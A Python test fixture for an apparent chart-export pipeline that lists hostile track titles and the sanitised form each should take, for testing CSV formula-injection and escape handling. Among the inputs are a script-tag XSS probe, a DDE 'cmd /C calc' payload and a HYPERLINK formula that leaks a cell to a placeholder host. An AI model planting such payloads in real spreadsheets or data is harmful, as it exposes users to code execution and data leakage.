"""Titles as somebody who means harm would have them, and what an export makes of each."""

from pathlib import Path
from typing import Final

from songpop.warehouse.publish import mark_revised, publish
from tests.builders import week_number
from tests.songpop.warehouse.make_warehouse import add_week, make_healthy

HOSTILE: Final = {
    "<script>alert(1)</script>": "<script>alert(1)</script>",
    '=HYPERLINK("https://example.org?"&A1,"Click")': (
        '\'=HYPERLINK("https://example.org?"&A1,"Click")'
    ),
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "  =1+1": "'  =1+1",
    "\u00a0\u3000=1+1": "'\u00a0\u3000=1+1",
    "\u200b=1+1": "'\u200b=1+1",
    "\t=1+1": "'\t'=1+1",
    "\tindented": "'\tindented",
    "\nsecond line": "'\nsecond line",
    "\r=1+1": "\\r=1+1",
    "\uff1d1+1": "'\uff1d1+1",
    "\uff0d1": "'\uff0d1",
    "'=1+1": "''=1+1",
    'song;=HYPERLINK("x")': 'song;\'=HYPERLINK("x")',
    'song; "=1+1': "song; \"'=1+1",
    "song\n=1+1": "song\n'=1+1",
    "a\x1b[31mred\x9b0m": "a\\x1b[31mred\\x9b0m",
    "nul\x00": "nul\\x00",
    "\u202egnp.exe": "\\u202egnp.exe",
    "mark\u200f": "mark\\u200f",
    "\ufeff=1+1": "\\ufeff=1+1",
    "x" * 10_000: "x" * 10_000,
    "=" + "x" * 9_999: "'=" + "x" * 9_999,
    "👩‍🎤 🇬🇧": "👩‍🎤 🇬🇧",
    'He said "no", then\r\nleft': 'He said "no", then\\r\nleft',
    "Sonata; No. 2 - Allegro": "Sonata; No. 2 - Allegro",
    "'Til Tomorrow": "'Til Tomorrow",
    "AC\\DC": "AC\\DC",
    "1=1": "1=1",
    "": "",
}
"""What comes in, and what is written."""


def make_hostile(folder: Path) -> Path:
    """Return *folder* with a warehouse whose newest week has one track for each hostile title."""
    paths, con = make_healthy(folder)
    tracks = [chr(0x41 + number) for number in range(len(HOSTILE))]
    scores = [1 - number / 100 for number in range(len(tracks))]
    add_week(con, "us", 7, "".join(tracks), scores=scores, version="us-2")
    con.executemany(
        "update mart.weekly_scores set title = ?, reason_1_contribution = -0.5 where track_id = ?",
        list(zip(HOSTILE, tracks, strict=True)),
    )
    mark_revised(con, [("us", week_number(7))])
    publish(con, paths)
    con.close()
    return folder
